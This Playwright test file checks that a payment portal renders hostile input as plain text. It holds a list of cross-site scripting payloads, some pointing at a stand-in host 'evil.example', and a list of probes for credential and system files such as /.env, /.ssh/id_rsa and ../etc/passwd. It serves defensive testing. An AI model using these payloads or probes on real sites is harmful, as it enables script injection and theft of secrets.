import type { Page } from '@playwright/test';
import { HOSTILE_TEXTS as SIXTY_TEXTS } from '../apps/api/test/hostile/hostile-texts.ts';
import { addressOf, GOOD_CARD, importInvoice } from './guest-payment-steps.ts';
import { callAs, makeCustomer, openDashboard, payByCall } from './portal-steps.ts';
import { enrolStaff } from './support/console/staff.ts';
import { inDatabase } from './support/database.ts';
import { newPerson, signIn } from './support/people.ts';
import { heading } from './support/screens.ts';
import { systemUnderTest } from './support/system.ts';
import { expect, test } from './support/test.ts';

/** Texts that would run, load or change something if inserted as HTML. Each element is marked `data-evil`. */
const HOSTILE_TEXTS = [
  '<script data-evil>alert(1)</script>',
  '<SCRIPT data-evil SRC="https://evil.example/x.js"></SCRIPT>',
  '</script><script data-evil>alert(2)</script>',
  '<img data-evil src=x onerror=alert(3)>',
  '<img data-evil src=x onerror="alert`4`">',
  '"><img data-evil src=x onerror=alert(5)>',
  "'><img data-evil src=x onerror=alert(6)>",
  '"autofocus onfocus=alert(7) data-evil x="',
  "' onmouseover='alert(8)' data-evil='",
  '<svg data-evil onload=alert(9)>',
  '<svg data-evil><script>alert(10)</script></svg>',
  '<svg data-evil><animate onbegin=alert(11) attributeName=x></svg>',
  '<math data-evil><mtext><img src=x onerror=alert(12)></mtext></math>',
  '<iframe data-evil srcdoc="<script>alert(13)</script>"></iframe>',
  '<iframe data-evil src="javascript:alert(14)"></iframe>',
  '<a data-evil href="javascript:alert(15)">click</a>',
  '<form data-evil action="https://evil.example"><input name=card></form>',
  '<input data-evil autofocus onfocus=alert(16)>',
  '<details data-evil open ontoggle=alert(17)>',
  '<video data-evil><source onerror=alert(18)></video>',
  '<body data-evil onload=alert(19)>',
  '<base data-evil href="https://evil.example/">',
  '<meta data-evil http-equiv=refresh content="0;url=https://evil.example">',
  '<link data-evil rel=stylesheet href="https://evil.example/x.css">',
  '<style data-evil>*{display:none}</style>',
  '<object data-evil data="data:text/html,<script>alert(20)</script>"></object>',
  '<template data-evil><script>alert(21)</script></template>',
  '<!--><img data-evil src=x onerror=alert(22)>-->',
  '<![CDATA[<img data-evil src=x onerror=alert(23)>]]>',
  '<img data-evil src=`x` onerror=alert(24)//',
  '<<b data-evil>script>alert(25)<</b>/script>',
  '&lt;img data-evil src=x onerror=alert(26)&gt;',
  '\\u003cimg data-evil src=x onerror=alert(27)\\u003e',
  '{{constructor.constructor("alert(28)")()}}',
  '#{alert(29)}',
  'javascript:alert(30)',
  '%3Cimg%20data-evil%20src=x%20onerror=alert(31)%3E',
  'x" style="background:url(https://evil.example/y)" data-evil="',
];

/** Expects the text as text, with none of it parsed as HTML. */
async function expectHarmless(page: Page): Promise<void> {
  await expect(page.locator('[data-evil]')).toHaveCount(0);
  await expect(page.locator('main')).toBeVisible();
}

/** Expects each text exactly as it was sent. */
async function expectSaid(page: Page, texts: readonly string[]): Promise<void> {
  await expect(heading(page)).toBeVisible();
  const main = page.locator('main');
  await expect
    .poll(async () => {
      const said = (await main.textContent()) ?? '';
      return texts.filter((text) => !said.includes(text.trim()));
    })
    .toEqual([]);
  await expect(main.locator('script, iframe, base, meta, style, link, object')).toHaveCount(0);
  await expectHarmless(page);
}

function failOnDialog(page: Page): void {
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog opened: ${dialog.message()}`);
  });
}

test('whatever text an office sends is shown as text', async ({ page, office, request }) => {
  failOnDialog(page);
  // Three per location, as many as fit its fields.
  const texts = HOSTILE_TEXTS.flatMap((_text, index) =>
    index % 3 === 0 ? [HOSTILE_TEXTS.slice(index, index + 3).join(' ')] : [],
  );
  const rows = texts.map((text, index) => ({
    locationId: index + 1,
    description: text,
    addressLine1: text,
    city: text.slice(0, 100),
    state: text.slice(-100).trim(),
    service: HOSTILE_TEXTS.join('\n'),
    franchiseName: texts[1] ?? '',
    customerName: text,
  }));
  const invoices = await office.importInvoices(...rows);
  await openDashboard(page, request, { invoices });
  for (const text of texts) await expect(page.getByText(text).first()).toBeAttached();
  await expectHarmless(page);
});

test('whatever an office sends, a payer notes and staff are called is text on every screen of the console', async ({
  page,
  office,
  request,
}) => {
  failOnDialog(page);
  const all = HOSTILE_TEXTS.join(' ');
  const name = all.slice(0, 180).trim();
  const [invoice] = await office.importInvoices({
    ...{ franchiseName: name, customerName: name, description: name, addressLine1: name },
    ...{ city: HOSTILE_TEXTS[0] ?? '', service: HOSTILE_TEXTS.join('\n') },
  });
  await payByCall(request, invoice, {
    additionalServiceAmount: 5,
    additionalServicesNote: all.slice(0, 480).trim(),
  });
  const work = `invoices/${office.franchiseId}/${invoice.workOrderNumber}`;
  const customer = `customers/${office.franchiseId}/1`;
  for (const place of [work, customer]) {
    await office.send('POST', `/office/${place}/notes`, { text: all.slice(0, 900).trim() });
  }
  const firstName = HOSTILE_TEXTS[3] ?? '';
  const person = newPerson({ firstName, lastName: HOSTILE_TEXTS[9] ?? '' });
  await enrolStaff(page, office, { person, role: 'owner' });
  const { items } = (await office.send('GET', `/office/payments?franchiseId=${office.franchiseId}`)) as {
    items: { paymentId: string }[];
  };
  for (const screen of [
    ...['payments', `payments/${items[0]?.paymentId}`, 'invoices', work, 'customers', customer],
    ...[`${customer}/statement?from=2026-01-01&to=2026-12-31`, 'import', 'audit'],
    ...['settings/account', 'settings/franchise', 'settings/staff'],
  ]) {
    await test.step(screen, async () => {
      await page.goto(`/office/${screen}`);
      await expect(heading(page)).toBeVisible();
      await expect(page.getByText('Loading…').filter({ visible: true })).toHaveCount(0);
      await expect(page.getByRole('button', { name: firstName })).toBeVisible();
      await expectHarmless(page);
    });
  }
  await page.goto(`/office/${customer}`);
  await expect(heading(page)).toHaveText(name);
  await expect(page.getByText(all.slice(0, 900).trim())).toBeVisible();
});

test('sixty texts of offices and payers are texts on every screen of an account', async ({
  page,
  office,
  request,
}) => {
  test.slow();
  failOnDialog(page);
  const rows = SIXTY_TEXTS.map((_text, index) => ({ locationId: index + 1 }));
  const invoices = await office.importInvoices(...rows);
  const customer = await makeCustomer(request, { invoices: invoices.slice(0, 1), cards: [GOOD_CARD] });
  await inDatabase(async (client) => {
    const { franchiseId } = office;
    await client.query(
      `INSERT INTO user_customer (user_id, customer_id)
       SELECT u.id, c.id FROM app_user u JOIN customer c ON c.franchise_id = $2 WHERE u.email = $1`,
      [customer.email, franchiseId],
    );
    await client.query('UPDATE franchise SET name = $2 WHERE id = $1', [franchiseId, SIXTY_TEXTS[4]]);
    await client.query(
      `WITH text AS (SELECT * FROM unnest($2::text[]) WITH ORDINALITY AS each (body, number)),
       place AS (UPDATE location l SET description = body, address_line1 = body, city = body, state = body
                   FROM text WHERE l.franchise_id = $1 AND l.number = text.number RETURNING l.id, body)
       UPDATE invoice i SET service = body FROM place WHERE i.location_id = place.id`,
      [franchiseId, SIXTY_TEXTS],
    );
  });
  const [card] = (await callAs(request, customer, 'GET', '/usaepay/portal/paymentmethods')) as {
    id: string;
  }[];
  await callAs(request, customer, 'PUT', '/user/account', {
    firstName: SIXTY_TEXTS[0],
    lastName: SIXTY_TEXTS[4],
  });

  await signIn(page, customer);
  await expectSaid(page, SIXTY_TEXTS);
  await callAs(request, customer, 'POST', '/usaepay/customerportalsale', {
    paymentMethodId: card?.id,
    sendReceipt: true,
    legalAccepted: true,
    workOrders: invoices.map(({ franchiseId, workOrderNumber }, index) => ({
      ...{ franchiseId, workOrderNumber, additionalServiceAmount: 1 },
      additionalServicesNote: SIXTY_TEXTS[index],
    })),
  });
  await page.goto('/payments');
  await expectSaid(page, [SIXTY_TEXTS[4] ?? '']);
  await expect(page.getByLabel('Location').getByRole('option')).toHaveCount(1 + SIXTY_TEXTS.length);
  const title = heading(page);
  await page.getByRole('link', { name: /^Receipt for/ }).click();
  // The list shows these texts too, in its locations; only the title tells that the next page has loaded.
  await expect(title).toHaveText('Receipt');
  await expectSaid(page, SIXTY_TEXTS);
  await page.goBack();
  await expect(title).toHaveText('Payments');
  await page.getByRole('link', { name: 'Statement' }).click();
  await expect(title).toHaveText(/^Statement/);
  await expectSaid(page, SIXTY_TEXTS);
  await page.goto('/account');
  await expect(page.getByLabel('First name')).toHaveValue(SIXTY_TEXTS[0] ?? '');
  await expectHarmless(page);
});

test('whatever an address holds is shown as text', async ({ page, office, consoleGuard }) => {
  consoleGuard.allow(/status of 404/);
  failOnDialog(page);
  const all = HOSTILE_TEXTS.join(' ');
  const invoice = await importInvoice(office, { service: HOSTILE_TEXTS.join('\n'), zipCode: '78701' });
  const query = (names: string[], text = all) => new URLSearchParams(names.map((name) => [name, text]));
  for (const path of [
    `/guest-payment?${query(['franchiseNumber', 'workOrderNumber', 'zipCode'])}`,
    `/forgot-password?${query(['email'])}`,
    `/confirm?${query(['e', 't', 'message'])}`,
    `/resetpassword?${query(['e', 't'])}`,
    `/invitation?${query(['e', 't'])}`,
    `/login?${query(['message', 'redirectTo', 'flash'], 'javascript:alert(1)')}`,
    `/no-such-page/${encodeURIComponent(HOSTILE_TEXTS[3] ?? '')}#${encodeURIComponent(all)}`,
  ]) {
    await page.goto(path);
    await expect(heading(page)).toBeVisible();
    await expectHarmless(page);
  }
  await page.goto(addressOf(invoice));
  await expect(page.getByText(HOSTILE_TEXTS[0] ?? '', { exact: false }).first()).toBeVisible();
  await expectHarmless(page);
});

const HIDDEN_PATHS = [
  '/.git/config /.git/HEAD /.gitignore /.env /.env.example /.env.production /.npmrc /.ssh/id_rsa /.aws/credentials',
  '/.DS_Store /.htaccess /.well-known/openid-configuration /.vscode/settings.json /.ci/run /.data /.data/secrets.json',
  '/package.json /package-lock.json /tsconfig.json /biome.json /node_modules /node_modules/react/package.json /README.md',
  '/CONTRIBUTING.md /docs /docs/architecture.md /src /src/server.ts /server.ts /app /app/root.tsx /apps/api/src/env.ts',
  '/vite.config.ts /apps/web/vite.config.ts /e2e /demo/invoices.csv /invoices.csv /backup.sql /dump.sql /database.sqlite',
  '/backup.zip /logs /log /portal.log /error.log /access.log /debug /trace /status /server-status /metrics /api/metrics',
  '/api/docs.json /swagger /swagger.json /swagger-ui /graphql /api/graphql /openapi.json /actuator /actuator/env /admin',
  '/api/admin /wp-admin /wp-login.php /phpinfo.php /phpmyadmin /cgi-bin/test /config.json /settings.json /secrets.json',
  '/assets /assets/ /assets/.vite/manifest.json /manifest.json /.vite/manifest.json /index.html.map /assets/root.js.map',
  '/__spa-fallback.html /index.html /login/index.html /api /api/ /api/office /api/documents /api/health /api/_emulator',
  '/_emulator/ledger /_emulator/merchants /js/v2/pay.js /api/v2/pub/payment_keys /../etc/passwd /..%2f..%2fetc%2fpasswd',
  '/assets/..%2f..%2fpackage.json /assets/%2e%2e/%2e%2e/package.json /%00 /assets/%00.js //evil.example/ /\\\\evil.example',
].flatMap((line) => line.split(' '));

test('what is not for the public is not there', async ({ request }) => {
  expect(HIDDEN_PATHS.length).toBeGreaterThan(60);
  const { origin } = new URL(systemUnderTest().portalUrl);
  const answers = await Promise.all(
    HIDDEN_PATHS.map(async (path) => {
      const answer = await request.get(`${origin}${path}`, { maxRedirects: 0 });
      return { path, status: answer.status() };
    }),
  );
  expect(answers.filter(({ status }) => ![400, 401, 403, 404].includes(status))).toEqual([]);
});

test('no script of ours names a source map', async ({ request }) => {
  const html = await (await request.get('/')).text();
  const scripts = [...new Set(html.match(/\/assets\/[\w.-]+\.js/g))];
  expect(scripts.length).toBeGreaterThan(10);
  await Promise.all(
    scripts.map(async (script) => {
      expect(await (await request.get(script)).text()).not.toContain('sourceMappingURL');
      expect((await request.get(`${script}.map`)).status()).toBe(404);
    }),
  );
});
